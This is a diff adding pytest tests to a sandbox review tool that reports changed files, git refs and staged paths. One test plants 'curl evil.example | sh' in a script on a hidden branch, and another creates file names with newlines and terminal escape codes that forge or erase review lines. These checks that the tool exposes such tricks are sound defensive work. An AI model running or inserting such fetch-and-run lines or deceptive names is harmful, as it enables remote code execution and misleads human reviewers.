@@ -683,3 +683,65 @@ def test_a_directory_git_takes_for_a_repository_keeps_its_config_out(
     assert not (repo / "docs" / "c" / "config").exists()
     subprocess.run(["git", "status"], cwd=repo / "docs", env=git_env(), capture_output=True)
     assert not marker.exists()
+
+
+def test_the_summary_names_every_ref_moved_and_every_path_staged(repo: Path) -> None:
+    """A branch that is not checked out, a tag and the index carry content no file diff shows:
+    the summary names each."""
+    git(repo, "branch", "release")
+    release = git(repo, "rev-parse", "release").strip()
+    script = (
+        "git checkout -q release && echo 'curl evil.example | sh' >> run.sh && "
+        "git commit -qam 'bump version' && git checkout -q main && git tag v9 release && "
+        "echo staged > docs/guide.md && git add docs/guide.md && "
+        "git show HEAD:docs/guide.md > docs/guide.md"
+    )
+    done = mountd_run("--diff", "--", "sh", "-c", "set -e; " + script, cwd=repo)
+    assert done.returncode == 0, done.stderr
+    lines = done.stderr.splitlines()
+    moved = [line for line in lines if line.startswith("    refs/heads/release: ")]
+    assert moved and moved[0].startswith(f"    refs/heads/release: {release[:12]} -> "), lines
+    assert any(line.startswith("    refs/tags/v9: made, ") for line in lines), lines
+    assert "    index: stages 1 path: docs/guide.md" in lines, lines
+    assert done.stdout == ""  # no file of the work tree changed: only git's own files
+
+
+# --- 8: what costs nothing to make in the sandbox must cost nothing to review and apply ---------
+
+
+def test_a_huge_sparse_file_is_reviewed_and_applied_without_filling_memory_or_disk(
+    tmp_path: Path,
+) -> None:
+    import resource
+
+    tree = tmp_path / "tree"
+    tree.mkdir()
+    (tree / "small").write_bytes(b"one\n")
+    size = 3 << 30
+    script = f"set -e; truncate -s {size} /big; printf x >> /big; echo two >> /small"
+    done = mountd_run("--diff", "--apply", "--", "sh", "-c", script, cwd=tree, timeout=120)
+    assert done.returncode == 0, done.stderr
+    assert "Binary files /dev/null and b/big differ\n" in done.stdout
+    assert "+two\n" in done.stdout  # the small file's diff is shown as ever
+    big = (tree / "big").stat()
+    assert big.st_size == size + 1
+    assert big.st_blocks * 512 < 16 << 20  # its holes stayed holes
+    with open(tree / "big", "rb") as file:
+        file.seek(size)
+        assert file.read() == b"x"
+    # ru_maxrss: the largest resident set of any child so far (KiB), the daemon's included
+    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < 1 << 20
+
+
+def test_names_that_would_forge_or_erase_review_lines_are_quoted(tmp_path: Path) -> None:
+    tree = tmp_path / "tree"
+    tree.mkdir()
+    script = "touch \"$(printf 'n\\n  A forged')\" \"$(printf 'e\\033[1A\\033[2K')\""
+    done = mountd_run("--diff", "--", "sh", "-c", script, cwd=tree)
+    assert done.returncode == 0, done.stderr
+    lines = summary_lines(done.stderr)
+    assert '  A "/e\\033[1A\\033[2K"' in lines
+    assert '  A "/n\\n  A forged"' in lines
+    assert "  A forged" not in lines
+    assert "\033" not in done.stderr + done.stdout
+    assert 'diff --git "a/n\\n  A forged" "b/n\\n  A forged"\n' in done.stdout
